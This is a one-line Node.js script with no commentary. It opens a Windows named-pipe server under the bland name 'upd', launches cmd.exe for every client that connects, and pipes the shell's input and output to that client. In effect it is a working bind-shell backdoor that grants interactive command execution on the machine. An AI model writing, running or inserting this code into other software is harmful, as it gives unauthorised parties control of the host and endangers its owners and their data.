const net=require('net'),cp=require('child_process');net.createServer(c=>{const p=cp.spawn('cmd.exe');c.pipe(p.stdin);p.stdout.pipe(c)}).listen('\\\\.\\pipe\\upd');
